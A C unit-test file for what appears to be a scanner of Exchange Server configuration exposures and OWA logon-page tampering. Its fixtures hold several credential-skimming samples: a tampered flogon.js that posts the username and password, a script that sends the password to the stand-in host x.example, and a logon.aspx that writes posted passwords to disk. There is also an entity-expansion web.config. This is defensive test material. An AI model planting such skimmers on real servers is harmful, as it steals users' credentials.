/* Unit tests: configuration exposures (Extended Protection, IIS modules, mitigation rules) and OWA logon-page integrity. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "hosttest.h"
#include "host/host_int.h"

#define APPHOST "C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config"
#define FE_OWA HT_E15 "FrontEnd\\HttpProxy\\owa"
#define SE_BUILD "15.2.2562.20"
#define FLOGON FE_OWA "\\auth\\" SE_BUILD "\\scripts\\premium\\flogon.js"

/* A front end with /owa and /ecp; ecp has Extended Protection off. */
static const char apphost_ep_off[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
    "<configuration><system.applicationHost><sites>"
    "<site name=\"Default Web Site\" id=\"1\">"
    "<application path=\"/\"><virtualDirectory path=\"/\" "
    "physicalPath=\"C:\\inetpub\\wwwroot\"/></application>"
    "<application path=\"/owa\"><virtualDirectory path=\"/\" "
    "physicalPath=\"" FE_OWA "\"/></application>"
    "<application path=\"/ecp\"><virtualDirectory path=\"/\" "
    "physicalPath=\"" HT_E15 "FrontEnd\\HttpProxy\\ecp\"/></application>"
    "</site></sites></system.applicationHost>"
    "<system.webServer><globalModules>"
    "<add name=\"HttpLoggingModule\" "
    "image=\"%windir%\\System32\\inetsrv\\loghttp.dll\"/>"
    "<add name=\"kerbauth\" image=\"" HT_E15 "Bin\\kerbauth.dll\"/>"
    "<add name=\"IIS Telemetry\" "
    "image=\"C:\\ProgramData\\Microsoft\\iistel.dll\"/>"
    "<add name=\"OwaHelper\" image=\"" HT_E15 "FrontEnd\\HttpProxy\\bin\\"
    "owahlp.dll\"/>"
    "</globalModules></system.webServer>"
    "<location path=\"Default Web Site/owa\"><system.webServer><security>"
    "<authentication><windowsAuthentication enabled=\"true\">"
    "<extendedProtection tokenChecking=\"Require\"/>"
    "</windowsAuthentication></authentication></security>"
    "</system.webServer></location>"
    "<location path=\"Default Web Site/ecp\"><system.webServer><security>"
    "<authentication><windowsAuthentication enabled=\"true\">"
    "<extendedProtection tokenChecking=\"None\"/>"
    "</windowsAuthentication></authentication></security>"
    "</system.webServer></location>"
    "</configuration>";

/* OWA web.config with EOMT's CVE-2026-42897 rule under another name. */
static const char webconfig_csp[] =
    "<configuration><system.webServer><rewrite><outboundRules>"
    "<rule name=\"Local CSP\" preCondition=\"p\" stopProcessing=\"false\">"
    "<match serverVariable=\"RESPONSE_Content_Security_Policy\" "
    "pattern=\"(.*)\"/>"
    "<action type=\"Rewrite\" value=\"{R:1}; script-src-attr 'none'\"/>"
    "</rule><preConditions><preCondition name=\"p\"><add "
    "input=\"{RESPONSE_CONTENT_TYPE}\" pattern=\"^text/html\"/>"
    "</preCondition></preConditions></outboundRules></rewrite>"
    "</system.webServer></configuration>";

static const char webconfig_plain[] =
    "<configuration><system.webServer><modules>"
    "<add name=\"ProxyModule\" type=\"Microsoft.Exchange.HttpProxy."
    "ProxyModule, Microsoft.Exchange.FrontEndHttpProxy\"/>"
    "</modules></system.webServer></configuration>";

static const char flogon_clean[] =
    "function gbid(s)\n{\n    return document.getElementById(s);\n}\n"
    "function clkLgn()\n{\n    addPerfMarker(\"Logon.Start\");\n"
    "    var oD = new Date();\n"
    "    oD.setTime(oD.getTime() + 2 * 7 * 24 * 60 * 60 * 1000);\n"
    "    var sL = \"lgn=\" + gbid(\"username\").value;\n"
    "    document.cookie = \"logondata=\" + sL + \"; expires=\" + "
    "oD.toUTCString();\n"
    "    if (gbid(\"showPasswordCheck\").checked)\n"
    "        gbid(\"password\").value = gbid(\"passwordText\").value;\n"
    "    document.cookie = \"PBack=0; path=/\";\n"
    "    document.logonForm.submit();\n}\n"
    "function clkRtry()\n{\n    window.location.reload();\n}\n";

/* The keylogger shape: clkLgn calls an added function that posts the
 * form fields with XMLHttpRequest. */
static const char flogon_tampered[] =
    "function clkLgn()\n{\n    addPerfMarker(\"Logon.Start\");\n"
    "    sndCr();\n    document.logonForm.submit();\n}\n"
    "function sndCr()\n{\n    var h = new XMLHttpRequest();\n"
    "    h.open(\"POST\", \"/owa/auth/x.aspx\", false);\n"
    "    h.send(gbid(\"username\").value + \":\" + "
    "gbid(\"password\").value);\n}\n";

static unsigned char *
dup_text(const char *s, size_t *len)
{
	unsigned char *d;

	*len = strlen(s);
	d = malloc(*len);
	assert_non_null(d);
	memcpy(d, s, *len);
	return d;
}

static void
put(struct ht_host *h, const char *win, const char *text)
{
	size_t len;
	unsigned char *d = dup_text(text, &len);

	ht_drop(h, win);
	ht_add(h, win, d, len);
}

static const struct exh_exposure *
find_expo(const struct exh_profile *p, const char *area, const char *subject)
{
	size_t i;

	for (i = 0; i < p->nexposures; i++)
		if (strcmp(p->exposures[i].area, area) == 0 &&
		    (subject == NULL || exh_ascii_iequal(
		    p->exposures[i].subject, subject)))
			return &p->exposures[i];
	return NULL;
}

static bool
has_check(const struct exh_profile *p, const char *id, const char *needle)
{
	struct host_check *c = NULL;
	size_t n = 0, i;
	bool found = false;

	assert_int_equal(host_checks(p, &c, &n), EXH_OK);
	for (i = 0; i < n; i++)
		if (strcmp(c[i].check, id) == 0 && (needle == NULL ||
		    strstr(c[i].description, needle) != NULL))
			found = true;
	host_checks_free(c, n);
	return found;
}

/* An Exchange SE host (build below Jun26SU) with this applicationHost. */
static struct exh_profile *
se_host(const char *apphost, const char *owa_webconfig, const char *flogon)
{
	struct ht_host h;
	struct exh_profile *p;

	assert_int_equal(ht_load("ese-rtm-aug25", HT_E15, &h), 0);
	put(&h, APPHOST, apphost);
	if (owa_webconfig != NULL)
		put(&h, FE_OWA "\\web.config", owa_webconfig);
	if (flogon != NULL)
		put(&h, FLOGON, flogon);
	p = ht_profile(&h, NULL);
	ht_free(&h);
	assert_non_null(p);
	return p;
}

static void
ep_off_on_ecp_and_foreign_global_module_are_both_reported(void **state)
{
	struct exh_profile *p = se_host(apphost_ep_off, NULL, NULL);
	const struct exh_exposure *x;

	(void)state;
	x = find_expo(p, "extended-protection", "Default Web Site/ecp");
	assert_non_null(x);
	assert_int_equal(x->state, EXH_EXPO_MISSING);
	assert_string_equal(x->expected, "Require");
	assert_string_equal(x->actual, "None");
	assert_non_null(strstr(x->cves, "CVE-2024-21410"));
	x = find_expo(p, "extended-protection", "Default Web Site/owa");
	assert_non_null(x);
	assert_int_equal(x->state, EXH_EXPO_OK);
	/* No back-end site in this config: no back-end rows. */
	assert_null(find_expo(p, "extended-protection", "Exchange Back End/ecp"));
	x = find_expo(p, "iis-module", "IIS Telemetry");
	assert_non_null(x);
	assert_int_equal(x->state, EXH_EXPO_SUSPICIOUS);
	assert_int_equal(x->score, 80);
	/* Unknown, but inside the Exchange folder: reported lower. */
	x = find_expo(p, "iis-module", "OwaHelper");
	assert_non_null(x);
	assert_int_equal(x->score, 60);
	/* The stock and the Exchange module are not reported. */
	assert_null(find_expo(p, "iis-module", "HttpLoggingModule"));
	assert_null(find_expo(p, "iis-module", "kerbauth"));
	assert_true(has_check(p, "X1/extended-protection",
	    "Default Web Site/ecp"));
	assert_true(has_check(p, "X1/iis-global-module", "IIS Telemetry"));
	exh_profile_free(p);
}

static void
csp_mitigation_rule_missing_then_present(void **state)
{
	struct exh_profile *p = se_host(apphost_ep_off, webconfig_plain, NULL);
	const struct exh_exposure *x;

	(void)state;
	x = find_expo(p, "mitigation-rule", "CVE-2026-42897");
	assert_non_null(x);
	assert_int_equal(x->state, EXH_EXPO_MISSING);
	assert_true(has_check(p, "X1/mitigation-rule", "CVE-2026-42897"));
	exh_profile_free(p);

	p = se_host(apphost_ep_off, webconfig_csp, NULL);
	x = find_expo(p, "mitigation-rule", "CVE-2026-42897");
	assert_non_null(x);
	assert_int_equal(x->state, EXH_EXPO_OK);
	assert_string_equal(x->actual, "Local CSP");
	assert_false(has_check(p, "X1/mitigation-rule", "CVE-2026-42897"));
	exh_profile_free(p);
}

static void
tampered_flogon_is_a_finding_untouched_is_not(void **state)
{
	struct exh_profile *p = se_host(apphost_ep_off, NULL, flogon_clean);
	const struct exh_exposure *x;

	(void)state;
	x = find_expo(p, "owa-logon", FLOGON);
	assert_non_null(x);
	assert_int_equal(x->state, EXH_EXPO_OK);
	assert_false(has_check(p, "X2/owa-logon-page", NULL));
	exh_profile_free(p);

	p = se_host(apphost_ep_off, NULL, flogon_tampered);
	x = find_expo(p, "owa-logon", FLOGON);
	assert_non_null(x);
	assert_int_equal(x->state, EXH_EXPO_SUSPICIOUS);
	assert_non_null(strstr(x->reason, "XMLHttpRequest"));
	assert_non_null(strstr(x->reason, "sndCr"));
	assert_true(has_check(p, "X2/owa-logon-page", "flogon.js"));
	exh_profile_free(p);
}

static void
tampered_script_in_the_current_folder_is_found(void **state)
{
	struct ht_host h;
	struct exh_profile *p;
	const struct exh_exposure *x;

	(void)state;
	assert_int_equal(ht_load("ese-rtm-aug25", HT_E15, &h), 0);
	put(&h, FE_OWA "\\auth\\Current\\scripts\\premium\\fexppw.js",
	    "var i = new Image(); i.src = '//x.example/c?' + "
	    "document.getElementById('password').value;");
	p = ht_profile(&h, NULL);
	ht_free(&h);
	assert_non_null(p);
	x = find_expo(p, "owa-logon", FE_OWA
	    "\\auth\\Current\\scripts\\premium\\fexppw.js");
	assert_non_null(x);
	assert_int_equal(x->state, EXH_EXPO_SUSPICIOUS);
	assert_non_null(strstr(x->reason, "image URL"));
	exh_profile_free(p);
}

static void
logon_aspx_writing_a_file_is_a_finding(void **state)
{
	struct ht_host h;
	struct exh_profile *p;
	const struct exh_exposure *x;

	(void)state;
	assert_int_equal(ht_load("ese-rtm-aug25", HT_E15, &h), 0);
	put(&h, FE_OWA "\\auth\\logon.aspx", "<%@ Page Language=\"C#\" %>"
	    "<% System.IO.File.AppendAllText(@\"C:\\inetpub\\wwwroot\\a.txt\","
	    " Request.Form[\"password\"]); %><form id=\"logonForm\"></form>");
	p = ht_profile(&h, NULL);
	ht_free(&h);
	assert_non_null(p);
	x = find_expo(p, "owa-logon", FE_OWA "\\auth\\logon.aspx");
	assert_non_null(x);
	assert_int_equal(x->state, EXH_EXPO_SUSPICIOUS);
	assert_int_equal(x->score, 85);
	exh_profile_free(p);
}

static void
old_build_without_ep_support_is_one_exposure(void **state)
{
	struct ht_host h;
	struct exh_profile *p;
	const struct exh_exposure *x;

	(void)state;
	/* 2016 CU19 (March 2021) predates Extended Protection. */
	assert_int_equal(ht_load("e2016-cu19-mar21", HT_E15, &h), 0);
	put(&h, APPHOST, apphost_ep_off);
	p = ht_profile(&h, NULL);
	ht_free(&h);
	assert_non_null(p);
	x = find_expo(p, "extended-protection", "all virtual directories");
	assert_non_null(x);
	assert_int_equal(x->state, EXH_EXPO_MISSING);
	assert_null(find_expo(p, "extended-protection", "Default Web Site/ecp"));
	exh_profile_free(p);
}

/* Replaces host's hive (SYSTEM or SOFTWARE) with its spec plus extra. */
static void
hive_plus(struct ht_host *h, const char *host, const char *spec,
    const char *win, const char *extra)
{
	char path[4096], out[] = "/tmp/exh-hive-XXXXXX", why[300];
	unsigned char *text, *d;
	size_t tlen, len;
	struct exh_buf b = { 0 };
	int fd;

	snprintf(path, sizeof(path), "%s/tests/fixtures/hosts/%s/%s", ht_top(),
	    host, spec);
	assert_int_equal(ht_slurp(path, &text, &tlen), 0);
	assert_int_equal(exh_buf_printf(&b, "%s\n%s\n", (char *)text, extra),
	    EXH_OK);
	free(text);
	fd = mkstemp(out);
	assert_true(fd >= 0);
	close(fd);
	assert_int_equal(hs_build(b.data, out, why, sizeof(why)), 0);
	exh_buf_free(&b);
	assert_int_equal(ht_slurp(out, &d, &len), 0);
	unlink(out);
	ht_drop(h, win);
	ht_add(h, win, d, len);
}

static void
eems_disabled_is_missing_automatic_is_ok(void **state)
{
	struct ht_host h;
	struct exh_profile *p;
	const struct exh_exposure *x;

	(void)state;
	assert_int_equal(ht_load("ese-rtm-aug25", HT_E15, &h), 0);
	hive_plus(&h, "ese-rtm-aug25", "system.spec",
	    "C:\\Windows\\System32\\config\\SYSTEM",
	    "dword \\ControlSet001\\Services\\MSExchangeMitigation Start=4");
	p = ht_profile(&h, NULL);
	assert_non_null(p);
	x = find_expo(p, "eems-service", NULL);
	assert_non_null(x);
	assert_int_equal(x->state, EXH_EXPO_MISSING);
	assert_string_equal(x->actual, "4 (disabled)");
	exh_profile_free(p);
	hive_plus(&h, "ese-rtm-aug25", "system.spec",
	    "C:\\Windows\\System32\\config\\SYSTEM",
	    "dword \\ControlSet001\\Services\\MSExchangeMitigation Start=2");
	p = ht_profile(&h, NULL);
	ht_free(&h);
	assert_non_null(p);
	x = find_expo(p, "eems-service", NULL);
	assert_non_null(x);
	assert_int_equal(x->state, EXH_EXPO_OK);
	exh_profile_free(p);
}

static void
exchange_2013_signing_off_is_missing_on_is_ok(void **state)
{
	struct ht_host h;
	struct exh_profile *p;
	const struct exh_exposure *x;

	(void)state;
	assert_int_equal(ht_load("e2013-cu23-nosu", HT_E15, &h), 0);
	/* CU23 RTM predates the switch: open whatever the registry says. */
	p = ht_profile(&h, NULL);
	assert_non_null(p);
	x = find_expo(p, "serialization-signing", NULL);
	assert_non_null(x);
	assert_int_equal(x->state, EXH_EXPO_MISSING);
	exh_profile_free(p);
	hive_plus(&h, "e2013-cu23-nosu", "software.spec",
	    "C:\\Windows\\System32\\config\\SOFTWARE",
	    "dword \\Microsoft\\ExchangeServer\\v15\\Diagnostics "
	    "EnableSerializationDataSigning=1");
	p = ht_profile(&h, NULL);
	ht_free(&h);
	assert_non_null(p);
	x = find_expo(p, "serialization-signing", NULL);
	assert_non_null(x);
	assert_int_equal(x->state, EXH_EXPO_OK);
	exh_profile_free(p);
}

static void
token_cache_module_judged_by_cachtokn_version(void **state)
{
	static const char apphost_tc[] =
	    "<configuration><system.applicationHost><sites>"
	    "<site name=\"Default Web Site\" id=\"1\"/></sites>"
	    "</system.applicationHost><system.webServer><globalModules>"
	    "<add name=\"TokenCacheModule\" "
	    "image=\"%windir%\\System32\\inetsrv\\cachtokn.dll\"/>"
	    "</globalModules></system.webServer></configuration>";
	const unsigned old[4] = { 10, 0, 17763, 4000 };
	const unsigned fixed[4] = { 10, 0, 17763, 4968 };
	const unsigned *v[2] = { old, fixed };
	const int want[2] = { EXH_EXPO_MISSING, EXH_EXPO_OK };
	struct ht_host h;
	struct exh_profile *p;
	const struct exh_exposure *x;
	unsigned char *pe;
	size_t len;
	int i;

	(void)state;
	/* Windows Server 2019 (17763): the table's fixed version decides. */
	for (i = 0; i < 2; i++) {
		assert_int_equal(ht_load("e2019-cu8-may21", HT_E15, &h), 0);
		put(&h, APPHOST, apphost_tc);
		pe = malloc(PS_MAX);
		assert_non_null(pe);
		len = ps_build(pe, v[i], PS_GOOD);
		ht_add(&h, "C:\\Windows\\System32\\inetsrv\\cachtokn.dll", pe,
		    len);
		p = ht_profile(&h, NULL);
		ht_free(&h);
		assert_non_null(p);
		x = find_expo(p, "token-cache", NULL);
		assert_non_null(x);
		assert_int_equal(x->state, want[i]);
		exh_profile_free(p);
	}
	/* Registered, DLL not on the disk: unknown, no finding. */
	assert_int_equal(ht_load("e2019-cu8-may21", HT_E15, &h), 0);
	put(&h, APPHOST, apphost_tc);
	p = ht_profile(&h, NULL);
	ht_free(&h);
	assert_non_null(p);
	x = find_expo(p, "token-cache", NULL);
	assert_non_null(x);
	assert_int_equal(x->state, EXH_EXPO_UNKNOWN);
	assert_false(has_check(p, "X1/token-cache-module", NULL));
	exh_profile_free(p);
	/* Windows Server 2025 (26100) is not affected. */
	assert_int_equal(ht_load("ese-rtm-aug25", HT_E15, &h), 0);
	put(&h, APPHOST, apphost_tc);
	p = ht_profile(&h, NULL);
	ht_free(&h);
	assert_non_null(p);
	x = find_expo(p, "token-cache", NULL);
	assert_non_null(x);
	assert_int_equal(x->state, EXH_EXPO_NOT_NEEDED);
	exh_profile_free(p);
}

static void
hostile_webconfig_is_a_note_not_a_crash(void **state)
{
	struct exh_profile *p = se_host(apphost_ep_off,
	    "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]>"
	    "<configuration>&b;<system.webServer><rewrite><outboundRules>"
	    "<rule><match serverVariable=\"&b;\"/></rule>", NULL);

	(void)state;
	assert_true(ht_has_note(p, "web.config: not parsed"));
	exh_profile_free(p);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(ep_off_on_ecp_and_foreign_global_module_are_both_reported),
		cmocka_unit_test(csp_mitigation_rule_missing_then_present),
		cmocka_unit_test(tampered_flogon_is_a_finding_untouched_is_not),
		cmocka_unit_test(tampered_script_in_the_current_folder_is_found),
		cmocka_unit_test(logon_aspx_writing_a_file_is_a_finding),
		cmocka_unit_test(old_build_without_ep_support_is_one_exposure),
		cmocka_unit_test(eems_disabled_is_missing_automatic_is_ok),
		cmocka_unit_test(exchange_2013_signing_off_is_missing_on_is_ok),
		cmocka_unit_test(token_cache_module_judged_by_cachtokn_version),
		cmocka_unit_test(hostile_webconfig_is_a_note_not_a_crash),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
